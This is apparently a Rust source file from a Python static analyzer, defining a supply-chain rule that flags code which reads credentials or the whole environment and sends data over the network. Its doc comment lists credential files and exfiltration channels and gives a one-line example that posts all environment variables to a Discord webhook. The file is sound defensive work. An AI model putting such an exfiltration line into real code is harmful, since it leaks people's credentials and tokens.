use super::context;
use super::summary::{Summary, summarize};
use crate::checker::Checker;
use crate::declare_rule;
use crate::rule::Category;
use vigil_knowledge::supply_chain as sc;
use vigil_python::ast::{NodeKind, Stmt};
use vigil_report::{Confidence, Severity};

/// A body that reads secrets and sends data: the first send is reported.
fn judge(checker: &mut Checker, summary: &Summary, body: &str) {
    let (Some((_, secret)), Some((range, send))) = (summary.secrets.first(), summary.sends.first())
    else {
        return;
    };
    let webhook = summary.sends.iter().any(|(_, s)| s == "a chat webhook");
    let message = format!(
        "{body} reads {secret} and sends data over the network ({send}): credentials can leave this machine"
    );
    let diagnostic = checker.report(&RULE, *range, message);
    if webhook {
        diagnostic.confidence(Confidence::High);
    }
}

fn check_function(checker: &mut Checker, stmt: &Stmt) {
    let Stmt::FunctionDef(def) = stmt else { return };
    if !context::imports_any(checker, sc::NETWORK_MODULES) {
        return;
    }
    let Some(scope) = checker.semantic.scope_of_node(stmt) else {
        return;
    };
    let summary = checker.memo(def.range.start(), || summarize(checker, &def.body, scope));
    let body = format!("`{}`", def.name.as_str());
    judge(checker, &summary, &body);
}

fn check_module(checker: &mut Checker) {
    if !context::imports_any(checker, sc::NETWORK_MODULES) {
        return;
    }
    let summary = super::summary::of_module(checker);
    judge(checker, &summary, "module-level code");
}

declare_rule! {
    /// ## What it does
    /// Flags a function that reads credentials or the whole environment and sends data over the network.
    ///
    /// Flags a function (or a module's top-level code) that both reads
    /// secrets and sends data over the network: secrets are credential
    /// files (`~/.ssh`, `~/.aws/credentials`, `.netrc`, `.pypirc`,
    /// `.git-credentials`, Docker and Kubernetes configs, browser
    /// profiles and saved passwords, crypto wallets, `/etc/passwd`) and
    /// the whole environment (`dict(os.environ)`, `os.environ.copy()`,
    /// iterating `os.environ`, `{**os.environ}`); sending is an HTTP
    /// request that carries data (`requests.post`, `urlopen`, ...), a
    /// socket, SMTP or FTP, a DNS lookup of a name built at run time, or
    /// a request to a chat webhook (Discord, Slack, Telegram).
    ///
    /// ## Why is this bad?
    /// Stealing credentials is what most malicious packages do: tokens in
    /// environment variables (CI secrets, cloud keys), SSH keys and
    /// registry passwords are read and sent to a server or a chat
    /// webhook the attacker controls, often at install or import time.
    /// Legitimate libraries that read a credential file use it to
    /// authenticate, not in the same function that posts data elsewhere.
    ///
    /// ## Example
    /// ```python
    /// import os, requests
    ///
    /// def report():
    ///     requests.post("https://discord.com/api/webhooks/1/x", json=dict(os.environ))
    /// ```
    ///
    /// ## Use instead
    /// Read only the variables you need, and send nothing that holds
    /// credentials:
    /// ```python
    /// def report(status):
    ///     requests.post(STATUS_URL, json={"status": status}, timeout=10)
    /// ```
    ///
    /// ## References
    /// - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    /// - CWE-522: Insufficiently Protected Credentials
    /// - CWE-506: Embedded Malicious Code
    pub static RULE = {
        name: "credential-exfiltration",
        category: Category::SupplyChain,
        cwe: &[200, 522, 506],
        severity: Severity::High,
        confidence: Confidence::Medium,
        bandit: &[],
        ruff: &[],
        help: "Check where the data goes: a function that reads credentials or the whole environment should not also send data over the network.",
        on_stmt: check_function,
        nodes: &[NodeKind::StmtFunctionDef],
        on_file: check_module,
    };
}
